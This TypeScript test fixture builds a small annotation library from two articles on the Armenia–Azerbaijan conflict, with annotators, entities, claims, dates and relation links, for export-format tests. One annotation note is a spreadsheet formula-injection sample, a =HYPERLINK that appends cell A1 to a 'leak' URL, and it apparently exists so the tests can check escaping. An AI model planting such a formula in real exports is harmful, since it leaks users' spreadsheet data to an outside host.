// TEST SUPPORT: a small library built from two corpus articles, shaped like what the app holds —
// UUID annotation ids, `annotator-<uuid>` annotators next to one older plain id, claims, actors
// and dates, notes with quotes, line breaks and a leading `=`, a quote starting with `@`; claims
// linked to claimants, dates and targets in three layers; actors linked to entities (aliases, a
// Wikidata id, a note with quotes, one entity no mention links to); date values suggested,
// confirmed and absent; one document with a publication date and one without. Every export
// format's tests and the W3C suite run over it. Pure: the caller reads the corpus files.

import type { Annotation, Annotator, SourceDocument } from '../model/annotation.ts';
import type { DateValue, ValueStatus } from '../model/date-value.ts';
import type { Entity } from '../model/entity.ts';
import {
  asAnnotationId,
  asAnnotatorId,
  asEntityId,
  asRelationId,
  type AnnotationId,
  type DocumentId,
  type EntityId,
  type RelationTypeId,
} from '../model/ids.ts';
import { BUILT_IN_LABELS } from '../model/labels.ts';
import {
  BUILT_IN_RELATION_TYPES,
  CLAIM_DATE,
  CLAIMANT,
  TARGET,
  type Relation,
} from '../model/relation.ts';
import type { DatasetModel } from './dataset/index.ts';
import { annotateQuote, makeDocument } from './dataset/test-support.ts';

/** The corpus files the fixture annotates (in ../shared/corpus). */
export const FIXTURE_CORPUS_FILES = ['001_a0067eea4bbd0937.txt', '002_2d75c3c5078d4155.txt'];

export const ANA: Annotator = {
  id: asAnnotatorId('annotator-5b0e1a8e-7f3c-4d2a-9c61-0d4f2b7a8e11'),
  name: 'Ana Petrosyan',
};
export const BEN: Annotator = {
  id: asAnnotatorId('annotator-c2d9f7e4-1a6b-4e8f-b3d5-6a7c8e9f0b12'),
  name: 'Ben Aliyev',
};
/** An annotator id from before ids were UUIDs. */
export const CARLA: Annotator = { id: asAnnotatorId('carla'), name: 'Carla "CM" Martín' };
/** Has no annotations: exports that list annotators must still carry her. */
export const DANA: Annotator = { id: asAnnotatorId('dana'), name: 'Dana' };

const entity = (id: string) => asEntityId(`entity-${id}`);

export const POMPEO_ENTITY: Entity = {
  id: entity('3f1c9a2e-5d4b-4e7a-8c1f-2b3a4c5d6e01'),
  name: 'Mike Pompeo',
  kind: 'person',
  aliases: ['Michael R. Pompeo', 'Secretary Pompeo'],
  wikidata: 'Q473239',
};
const MNATSAKANYAN: Entity = {
  id: entity('3f1c9a2e-5d4b-4e7a-8c1f-2b3a4c5d6e02'),
  name: 'Zohrab Mnatsakanyan',
  kind: 'person',
  aliases: ['@ZMnatsakanyan'],
  note: 'Foreign Minister of Armenia, 2018–2020',
};
const AZERBAIJAN: Entity = {
  id: entity('3f1c9a2e-5d4b-4e7a-8c1f-2b3a4c5d6e03'),
  name: 'Azerbaijan',
  kind: 'state',
  aliases: ['Republic of Azerbaijan'],
  wikidata: 'Q227',
};
const TOLMAJYAN: Entity = {
  id: entity('3f1c9a2e-5d4b-4e7a-8c1f-2b3a4c5d6e04'),
  name: 'Hasmik Tolmajyan',
  kind: 'person',
  aliases: [],
  note: 'Armenian ambassador in Paris; "sincere", her word',
};
const BLINKEN: Entity = {
  id: entity('3f1c9a2e-5d4b-4e7a-8c1f-2b3a4c5d6e05'),
  name: 'Antony Blinken',
  kind: 'person',
  aliases: ['Tony Blinken'],
};
/** On the list but linked by no mention: exports that carry the list must still carry it. */
const MINSK_GROUP: Entity = {
  id: entity('3f1c9a2e-5d4b-4e7a-8c1f-2b3a4c5d6e06'),
  name: 'OSCE Minsk Group',
  kind: 'organisation',
  aliases: ['Minsk Group'],
};

interface Span {
  quote: string;
  label: 'claim' | 'actor' | 'date';
  annotator: Annotator;
  id: string;
  note?: string;
  entity?: EntityId;
  // The grammar lives in app/dates; these literals are valid values of it.
  value?: string;
  valueStatus?: ValueStatus;
}

/** A link of the fixture: ids of annotations of one document, drawn by their (shared) annotator. */
interface Link {
  id: string;
  type: RelationTypeId;
  from: string;
  to: string;
}

const POMPEO: Span[] = [
  {
    quote: 'Mike Pompeo',
    label: 'actor',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e01',
    entity: POMPEO_ENTITY.id,
  },
  {
    quote: 'this Friday',
    label: 'date',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e02',
    value: '2020-10-30',
    valueStatus: 'suggested',
  },
  {
    quote: 'Armenia and Azerbaijan',
    label: 'actor',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e03',
  },
  {
    quote:
      'The region is experiencing the most hostile struggle in more than a quarter of a century.',
    label: 'claim',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e04',
    note: 'Compare with the April 2016 escalation.',
  },
  {
    quote: '@ZMnatsakanyan',
    label: 'actor',
    annotator: CARLA,
    id: 'legacy-7',
    entity: MNATSAKANYAN.id,
  },
  {
    quote: 'Both must implement a ceasefire and return to substantive negotiations.',
    label: 'claim',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e11',
  },
  {
    quote: 'Secretary Pompeo',
    label: 'actor',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e12',
    entity: POMPEO_ENTITY.id,
  },
  // The same span as Ana's: two layers may tag one span; Ben's has no entity.
  {
    quote: 'Armenia and Azerbaijan',
    label: 'actor',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e13',
  },
];

const POMPEO_LINKS: Link[] = [
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e901', type: CLAIMANT, from: 'e11', to: 'e12' },
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e902', type: CLAIM_DATE, from: 'e11', to: 'e02' },
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e903', type: TARGET, from: 'e11', to: 'e13' },
  // Two claims may share one date.
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e904', type: CLAIM_DATE, from: 'e04', to: 'e02' },
];

const ONE_YEAR_AFTER: Span[] = [
  {
    quote: 'September 2022',
    label: 'date',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e06',
    value: '2022-09',
    valueStatus: 'confirmed',
  },
  {
    quote: 'Azerbaijan swiftly seized back Nagorno-Karabakh',
    label: 'claim',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e07',
    note: '=HYPERLINK("https://example.com/?leak="&A1, "source")',
  },
  {
    quote: 'Antony Blinken',
    label: 'actor',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e08',
    entity: BLINKEN.id,
  },
  {
    quote: 'Hasmik Tolmajyan',
    label: 'actor',
    annotator: CARLA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e09',
    entity: TOLMAJYAN.id,
  },
  {
    quote: '“Armenia has shown multiple times its sincere hope and determination',
    label: 'claim',
    annotator: BEN,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e10',
    note: 'Official line, "sincere" is doing work here;\nsee the ambassador’s earlier remarks.',
  },
  {
    quote: 'Azerbaijan',
    label: 'actor',
    annotator: ANA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e14',
    entity: AZERBAIJAN.id,
  },
  {
    quote:
      'Armenia has shown multiple times its sincere hope and determination to reach a just and durable peace',
    label: 'claim',
    annotator: CARLA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e15',
  },
  // Without a publication date this expression resolves to nothing: it has no value.
  {
    quote: 'Earlier this year',
    label: 'date',
    annotator: CARLA,
    id: '0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5e16',
  },
];

const ONE_YEAR_LINKS: Link[] = [
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e905', type: CLAIM_DATE, from: 'e07', to: 'e06' },
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e906', type: TARGET, from: 'e07', to: 'e14' },
  { id: 'a7e2c0d1-9b8f-4a6e-b5d4-c3b2a1f0e907', type: CLAIMANT, from: 'e15', to: 'e09' },
];

/**
 * The fixture library: two documents (the first published 2020-10-30), sixteen annotations by
 * three annotators, four annotators, seven relations, six entities.
 */
export function buildFixtureModel(readCorpus: (fileName: string) => string): DatasetModel {
  const [pompeoFile, oneYearFile] = FIXTURE_CORPUS_FILES as [string, string];
  const pompeo: SourceDocument = {
    ...makeDocument('Pompeo steps into the conflict', readCorpus(pompeoFile)),
    publishedAt: '2020-10-30',
  };
  const oneYear = makeDocument('One year after the offensive', readCorpus(oneYearFile));
  const pompeoAnnotations = annotate(pompeo, POMPEO, 0);
  const oneYearAnnotations = annotate(oneYear, ONE_YEAR_AFTER, POMPEO.length);
  return {
    documents: [pompeo, oneYear],
    annotations: [...pompeoAnnotations, ...oneYearAnnotations],
    annotators: [ANA, BEN, CARLA, DANA],
    labels: [...BUILT_IN_LABELS],
    relations: [
      ...link(pompeo.id, pompeoAnnotations, POMPEO_LINKS, 0),
      ...link(oneYear.id, oneYearAnnotations, ONE_YEAR_LINKS, POMPEO_LINKS.length),
    ],
    relationTypes: [...BUILT_IN_RELATION_TYPES],
    entities: [POMPEO_ENTITY, MNATSAKANYAN, AZERBAIJAN, TOLMAJYAN, BLINKEN, MINSK_GROUP],
  };
}

/** The fixture's annotation id of a short name `e11` (the last two digits of its UUID). */
function annotationIdOf(short: string): AnnotationId {
  return asAnnotationId(`0f8d2c4e-3b1a-4c5d-8e9f-1a2b3c4d5${short}`);
}

function link(
  documentId: DocumentId,
  annotations: Annotation[],
  links: Link[],
  first: number,
): Relation[] {
  return links.map((entry, i) => {
    const from = annotationIdOf(entry.from);
    const source = annotations.find((annotation) => annotation.id === from);
    if (source === undefined) throw new Error(`no annotation ${entry.from} in ${documentId}`);
    const created = new Date(Date.UTC(2024, 4, 2, 14, first + i)).toISOString();
    return {
      id: asRelationId(entry.id),
      documentId,
      type: entry.type,
      from,
      to: annotationIdOf(entry.to),
      annotator: source.annotator,
      createdAt: created,
      updatedAt: created,
    };
  });
}

function annotate(document: SourceDocument, spans: Span[], first: number): Annotation[] {
  return spans.map((span, i) => {
    const created = new Date(Date.UTC(2024, 4, 1, 9, 30 + first + i));
    const annotation: Annotation = {
      ...annotateQuote(document, span.quote, {
        id: span.id,
        label: span.label,
        annotator: span.annotator.id,
        note: span.note ?? '',
      }),
      createdAt: created.toISOString(),
      // Every other annotation was edited a day later.
      updatedAt: new Date(created.getTime() + ((first + i) % 2) * 86_400_000).toISOString(),
    };
    // Set only when present, as the app stores them: exports must not write empty fields.
    if (span.entity !== undefined) annotation.entity = span.entity;
    if (span.value !== undefined) annotation.value = span.value as DateValue;
    if (span.valueStatus !== undefined) annotation.valueStatus = span.valueStatus;
    return annotation;
  });
}
